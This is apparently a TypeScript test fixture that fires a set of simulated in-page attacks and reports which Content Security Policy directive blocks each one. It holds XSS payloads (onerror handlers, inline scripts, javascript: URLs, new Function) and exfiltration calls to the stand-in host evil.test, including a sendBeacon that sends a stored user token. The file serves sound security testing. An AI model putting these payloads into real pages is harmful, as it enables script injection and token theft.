import { Component, createElement, type ReactNode } from 'react'
import { flushSync } from 'react-dom'
import { createRoot } from 'react-dom/client'

/**
 * What an attacker's script would try inside the page. attacks.e2e.ts serves it as a file of the app's own origin, because the
 * policy exempts scripts that Playwright evaluates from some directives.
 */
declare global {
  interface Window {
    xss?: string
    attack?: () => Promise<Record<string, string>>
  }
}

const FOREIGN = 'https://evil.test'
const note = (name: string) => `window.xss = ${JSON.stringify(name)}`
const add = (tag: string, set: Record<string, string>) => {
  const element = document.createElement(tag)
  Object.assign(element, set)
  document.body.append(element)
  return element
}

class Caught extends Component<{ children: ReactNode }> {
  override state = { failed: false }
  static getDerivedStateFromError = () => ({ failed: true })
  override render = () => (this.state.failed ? null : this.props.children)
}

const attacks: Record<string, () => unknown> = {
  fetch: () => fetch(`${FOREIGN}/fetch`).catch(() => {}),
  sendBeacon: () => navigator.sendBeacon(`${FOREIGN}/beacon`, localStorage.getItem('userToken')),
  image: () => add('img', { src: `${FOREIGN}/image?token` }),
  'foreign iframe': () => add('iframe', { src: `${FOREIGN}/frame` }),
  'inline script': () => add('script', { textContent: note('inline script') }),
  'inline handler': () => add('button', {}).setAttribute('onclick', note('inline handler')),
  innerHTML: () => add('div', { innerHTML: `<img src="x" onerror="${note('innerHTML')}">` }),
  "the provider's script": () => add('script', { src: 'https://s3.tradingview.com/tv.js' }),
  'blob worker': () => new Worker(URL.createObjectURL(new Blob([`fetch('${FOREIGN}/worker')`]))),
  'base tag': () => document.head.append(Object.assign(document.createElement('base'), { href: FOREIGN })),
  'foreign form': () =>
    (add('form', { action: `${FOREIGN}/form`, method: 'post' }) as HTMLFormElement).submit(),
  'javascript: URL': () => {
    location.href = `javascript:${note('javascript: URL')}`
  },
  dangerouslySetInnerHTML: () => {
    const html = `<img src="x" onerror="${note('dangerouslySetInnerHTML')}">`
    const root = createRoot(add('div', {}), { onCaughtError: () => {} })
    // oxlint-disable-next-line react/no-danger
    const hostile = createElement('div', { dangerouslySetInnerHTML: { __html: html } })
    flushSync(() => root.render(createElement(Caught, null, hostile)))
  },
  // oxlint-disable-next-line no-new-func
  'new Function': () => new Function(note('new Function'))(),
}

/** Runs the attack. Resolves with the directive that stopped it, or says that none did within two seconds. */
async function runAttack(attack: () => unknown): Promise<string> {
  const stopped = new Promise<string>((resolve) => {
    const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective)
    document.addEventListener('securitypolicyviolation', listen, { once: true })
    setTimeout(() => resolve('nothing stopped it'), 2000)
  })
  try {
    attack()
  } catch {
    // Trusted Types throw an exception in addition to the event.
  }
  return stopped
}

window.attack = async () => {
  const results: Record<string, string> = {}
  for (const [name, attack] of Object.entries(attacks)) results[name] = await runAttack(attack)
  return results
}
